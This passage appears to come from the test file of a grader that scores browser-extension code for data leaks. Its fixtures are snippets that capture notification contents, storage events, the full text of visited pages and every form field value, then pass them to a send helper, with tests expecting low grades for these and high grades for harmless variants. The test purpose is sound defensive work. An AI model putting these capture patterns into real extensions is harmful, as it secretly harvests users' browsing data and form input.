  const inPages = async (content: string): Promise<string> =>
    graded({
      content,
      manifest: { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'], world: 'MAIN' }] },
    });
  const around = (told: string): string =>
    `const Real = Notification; window.Notification = function (title, options) { ${send(told)}; return new Real(title, options); };`;
  expect(await inPages(around('title + options.body'))).toMatch(/^[DF]/);
  expect(await inPages('window.Notification = function () { return {}; };')).toMatch(/^A/);
  expect(await graded({ content: `addEventListener('storage', (e) => { ${send('e.newValue')}; });` })).toMatch(/^[DF]/);
});

it('what scripts come to that are run in pages, as texts and as files', async () => {
  const grade = async (how: string, file: string): Promise<string> =>
    graded({
      background: `chrome.tabs.onUpdated.addListener((id) => chrome.tabs.executeScript(id, ${how}, ([all]) => ${send('all')}));`,
      manifest: {
        manifest_version: 2,
        permissions: ['tabs', '<all_urls>'],
        background: { scripts: ['background.js'] },
      },
      files: { 'read.js': file },
    });
  expect(await grade("{ code: 'document.body.innerText' }", '')).toMatch(/^[DF]/);
  expect(await grade("{ code: '(() => { const all = document.body; return all.innerText; })()' }", '')).toMatch(
    /^[DF]/,
  );
  expect(await grade("{ file: 'read.js' }", 'var all = document.body;\nall.innerText')).toMatch(/^[DF]/);
  expect(await grade("{ code: 'document.body.innerText; 1' }", '')).toMatch(/^[AB]/);
  expect(await grade("{ file: 'read.js' }", 'document.body.innerText;\nvar done = 1;')).toMatch(/^[AB]/);
});

it('fields of a page that a library goes through', async () => {
  const content = (told: string): string =>
    `document.addEventListener('change', () => { const all = _.map(document.querySelectorAll('input'), (field) => ${told}); ${send('all')}; });`;
  expect(await graded({ content: content('field.value') })).toBe('F');
  expect(await graded({ content: content('field.tagName') })).toMatch(/^A/);
});
